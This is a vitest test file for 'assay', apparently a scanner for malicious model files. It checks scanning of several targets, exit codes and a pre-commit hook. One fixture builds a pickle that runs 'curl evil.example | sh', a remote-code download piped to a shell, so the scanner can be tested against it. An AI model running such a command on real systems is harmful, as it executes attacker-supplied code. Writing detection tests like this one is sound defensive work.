/** `assay scan a b c`: several targets in one run, as the pre-commit hook passes every staged model file. */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import type { Report } from '../../src/core/report.js';
import { callPickle } from '../fixtures/pickle-writer.js';
import { PROJECT_ROOT, runAssay, tempFolder } from '../helpers.js';

describe('assay scan with several targets', () => {
  it('writes one report per target (a JSON array) and exits with the worst verdict', async () => {
    const folder = await tempFolder({
      'weights.pkl': callPickle('collections', 'OrderedDict', 'x'),
      'optimizer.pkl': callPickle('posix', 'system', 'curl evil.example | sh'),
    });
    const benign = join(PROJECT_ROOT, 'examples', 'benign-model', 'pytorch_model.bin');
    const evil = join(folder, 'optimizer.pkl');

    const both = await runAssay(['scan', benign, evil, '--format', 'json', '--no-progress']);
    expect(both.code).toBe(1);
    const reports = JSON.parse(both.stdout) as Report[];
    expect(reports.map((report) => [report.target.path, report.verdict])).toEqual([
      [benign, 'pass'],
      [evil, 'fail'],
    ]);
    expect(reports[1]?.findings.map((finding) => finding.ruleId)).toContain('security/pickle-dangerous-global');

    const clean = await runAssay(['audit', benign, join(folder, 'weights.pkl'), '--no-progress', '--no-store']);
    expect(clean.code).toBe(0);
    expect(clean.stdout.match(/verdict PASS/g)).toHaveLength(2);

    // A single target still gives a single JSON object, as before.
    const one = await runAssay(['scan', benign, '--format', 'json', '--no-progress']);
    expect(JSON.parse(one.stdout)).toMatchObject({ verdict: 'pass' });

    // A target that cannot be read stops the run with exit 2 and names it.
    const missing = await runAssay(['scan', benign, join(folder, 'deleted.pt'), '--no-progress']);
    expect(missing.code).toBe(2);
    expect(missing.stderr).toContain('deleted.pt');
  });

  it('ships a pre-commit hook that passes the staged model files to assay scan', () => {
    const hooks = parse(readFileSync(join(PROJECT_ROOT, '.pre-commit-hooks.yaml'), 'utf8')) as {
      id: string;
      entry: string;
      files: string;
    }[];
    const hook = hooks.find((candidate) => candidate.id === 'assay-scan');
    expect(hook?.entry).toMatch(/^assay scan\b/);
    const files = new RegExp(hook?.files ?? '$^');
    for (const staged of ['models/pytorch_model.bin', 'a/optimizer.pkl', 'model.safetensors', 'model.onnx'])
      expect(files.test(staged), staged).toBe(true);
    for (const staged of ['src/train.py', 'README.md', 'config.json']) expect(files.test(staged), staged).toBe(false);
  });
});
